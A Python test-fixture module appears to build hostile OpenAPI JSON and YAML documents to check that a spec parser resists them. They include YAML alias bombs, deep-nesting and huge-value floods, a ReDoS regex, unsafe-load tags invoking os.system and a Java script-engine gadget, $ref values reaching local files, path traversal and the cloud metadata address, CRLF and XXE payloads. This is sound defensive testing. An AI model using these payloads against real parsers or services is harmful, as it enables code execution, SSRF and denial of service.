"""Hostile JSON and YAML of our own making, each kind by its name; `{file}` and `{web}` must stay untouched."""

MANY = 20_000
"""How often the floods repeat."""

_OFFER = "paths: {/a: {get: {operationId: a, responses: {'200': {content: {application/json: {schema: %s}}}}}}}"
_JSON_OFFER = (
    '"paths": {"/a": {"get": {"operationId": "a", "responses": {"200": {"content": {"application/json":'
    ' {"schema": %s}}}}}}}'
)


def _yaml(schema: str, more: str = "") -> str:
    return f"openapi: 3.0.3\ninfo: {{title: t, version: '1'}}\n{_OFFER % schema}\n{more}\n"


def _json(schema: str, more: str = "") -> str:
    return f'{{"openapi": "3.0.3", "info": {{"title": "t", "version": "1"}}, {_JSON_OFFER % schema}{more}}}'


def _laughs(last: int) -> str:
    lines = ["x0: &a0 [ja, ja, ja, ja, ja, ja, ja, ja, ja, ja]"]
    lines += [f"x{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, last)]
    return "\n".join(lines)


def _merges(last: int) -> str:
    lines = ["m0: &m0 {k0: 1, l0: 2}"]
    lines += [f"m{n}: &m{n} {{<<: [{', '.join([f'*m{n - 1}'] * 10)}], k{n}: 1}}" for n in range(1, last)]
    return "\n".join(lines)


def _chain(count: int) -> str:
    links = ", ".join(f'"s{n}": {{"$ref": "#/components/schemas/s{n + 1}"}}' for n in range(count))
    return f', "components": {{"schemas": {{{links}}}}}'


def _doubling(count: int) -> str:
    two = '{"allOf": [{"$ref": "#/components/schemas/s%d"}, {"$ref": "#/components/schemas/s%d"}]}'
    links = ", ".join(f'"s{n}": {two % (n + 1, n + 1)}' for n in range(count))
    return f', "components": {{"schemas": {{{links}, "s{count}": {{"type": "object"}}}}}}'


FIRST = '{"$ref": "#/components/schemas/s0"}'
KINDS: dict[str, str] = {
    "doubling": _json(FIRST, _doubling(40)),
    "laughs": _yaml("{type: string}", _laughs(12)),
    "laughs-in-a-schema": _yaml("{type: string, enum: *a8}", "").replace("paths:", _laughs(9) + "\npaths:"),
    "laughs-by-merging": _yaml("{type: string}", _merges(12)),
    "alias-inside-itself": _yaml("{type: string}", "x: &x [*x]"),
    "alias-inside-its-key": _yaml("{type: string}", "x: &x {*x : 1}"),
    "alias-of-nothing": _yaml("*nadie"),
    "merge-of-a-text": _yaml("{type: string}", "x: {<<: texto}"),
    "merge-of-itself": _yaml("{type: string}", "x: &x {<<: *x}"),
    "tag-that-runs": _yaml("{type: string}", "x: !!python/object/apply:os.system ['touch {file}.ran']"),
    "tag-of-a-module": _yaml("{type: string}", "x: !!python/module:antigravity"),
    "tag-of-a-name": _yaml("{type: string}", "x: !!python/name:os.system"),
    "tag-of-java": _yaml("{type: string}", "x: !!javax.script.ScriptEngineManager [!!java.net.URL ['{web}']]"),
    "tag-of-ruby": _yaml("{type: string}", "x: !ruby/object:Gem::Installer {i: x}"),
    "tag-of-its-own": _yaml("{type: string}", "x: !secreto 1"),
    "binary-tag": _yaml("{type: string}", "x: !!binary '%%%'"),
    "set-and-pairs": _yaml("{type: string}", "x: !!set {a, b}\ny: !!pairs [a: 1, a: 2]\nz: !!omap [a: 1]"),
    "time-of-no-day": _yaml("{type: string}", "x: !!timestamp 2026-99-99"),
    "keys-of-lists": _yaml("{type: string}", "? [a, b]\n: 1"),
    "keys-that-stand-twice": _yaml("{type: string}", "x: {a: 1, a: 2}"),
    "several-documents": _yaml("{type: string}") + "---\n" + _yaml("{type: string}"),
    "directive": "%YAML 9.9\n---\n" + _yaml("{type: string}"),
    "deep-in-braces": _yaml("{type: string}", "x: " + "{a: " * MANY + "1" + "}" * MANY),
    "deep-in-lists": _yaml("{type: string}", "x: " + "[" * MANY + "]" * MANY),
    "deep-by-indenting": _yaml("{type: string}", "x:\n" + "\n".join(" " * n + "a:" for n in range(1, 2000))),
    "deep-by-dashes": _yaml("{type: string}", "x:\n  " + "- " * MANY),
    "deep-json": _json('{"type": "string"}', ', "x": ' + "[" * 100_000 + "]" * 100_000),
    "deep-json-that-never-ends": '{"openapi": "3.0.3", "x": ' + '{"a":' * 100_000,
    "deep-schema": _json('{"type": "array", "items": ' * 140 + '{"type": "string"}' + "}" * 140),
    "huge-integer": _json('{"type": "integer", "maximum": ' + "9" * 100_000 + "}"),
    "huge-exponent": _json('{"type": "number", "maximum": 1e999999999}'),
    "huge-exponent-in-yaml": _yaml("{type: number, maximum: 1e999999999, minItems: 1e999999}"),
    "huge-integer-in-yaml": _yaml("{type: integer, maximum: " + "9" * 100_000 + "}"),
    "huge-octal": _yaml("{type: integer, maximum: 0o" + "7" * 9000 + "}"),
    "sixty-based": _yaml("{type: integer, maximum: 190:20:30}"),
    "not-a-number": _json('{"type": "number", "maximum": NaN}'),
    "huge-text": _json('{"type": "string", "description": "' + "t" * 5_000_000 + '"}'),
    "huge-key": _json('{"type": "object", "properties": {"' + "k" * 500_000 + '": {"type": "string"}}}'),
    "huge-enumeration": _json('{"type": "string", "enum": [' + ",".join(f'"v{n}"' for n in range(MANY)) + "]}"),
    "huge-pattern": _json('{"type": "string", "pattern": "' + "(a+)+" * 9000 + '$"}'),
    "many-anchors": _yaml("{type: string}", "\n".join(f"x{n}: &x{n} 1" for n in range(MANY))),
    "reference-to-itself": _json('{"$ref": "#/paths/~1a/get/responses/200/content/application~1json/schema"}'),
    "reference-in-a-circle": _json(FIRST, ', "components": {"schemas": {"s0": {"$ref": "#/components/schemas/s0"}}}'),
    "reference-chain": _json(FIRST, _chain(3000)),
    "reference-of-a-file": _json('{"$ref": "{file}"}'),
    "reference-of-a-file-address": _json('{"$ref": "file://{file}#/a"}'),
    "reference-upwards": _json('{"$ref": "../../../../../../..{file}"}'),
    "reference-of-a-web-address": _json('{"$ref": "{web}/s.json#/a"}'),
    "reference-of-metadata": _json('{"$ref": "http://169.254.169.254/latest/meta-data/"}'),
    "reference-that-is-no-text": _json('{"$ref": {"$ref": 7}}'),
    "reference-with-half-an-escape": _json('{"$ref": "#/paths/~"}'),
    "reference-through-a-list": _json('{"$ref": "#/x/99999999999999999999"}', ', "x": [1]'),
    "path-with-a-host": _json('{"type": "string"}').replace('"/a"', '"@127.0.0.1/a"'),
    "path-with-a-line-break": _json('{"type": "string"}').replace('"/a"', '"/a\\r\\nx-evil: 1"'),
    "server-of-a-file": _json('{"type": "string"}', ', "servers": [{"url": "file://{file}"}]'),
    "server-of-a-script": _json('{"type": "string"}', ', "servers": [{"url": "javascript:alert(1)"}]'),
    "names-of-the-schema-itself": _json('{"type": "object", "properties": {"__typename": {"type": "string"}}}'),
    "wrong-everywhere": '{"openapi": "3.0.3", "info": 7, "paths": {"/a": {"get": [], "post": 7, "x": null}}}',
    "values-for-objects": _json('{"type": ["object", 7, null], "properties": [1], "required": {"a": 1}, "allOf": 7}'),
    "nul": _yaml("{type: string}", 'x: "\\0"\ny: \0'),
    "controls": _yaml("{type: string}", "x: \x01\x02"),
    "surrogates": _json('{"type": "string", "description": "\\ud800"}'),
    "tabs": _yaml("{type: string}", "x:\n\t- 1"),
    "utf-7": "+ADw-openapi: 3.0.3",
    "xml-entities": "<!DOCTYPE a [<!ENTITY e SYSTEM '{web}'>]><a>&e;</a>",
}
"""Documents by their illness. Some are whole and offer something; none may do harm."""

LONG_TO_READ = _yaml("{type: string}", f"x: [{'0, ' * 3_000_000}0]")
"""A document within all sizes that takes seconds to read."""
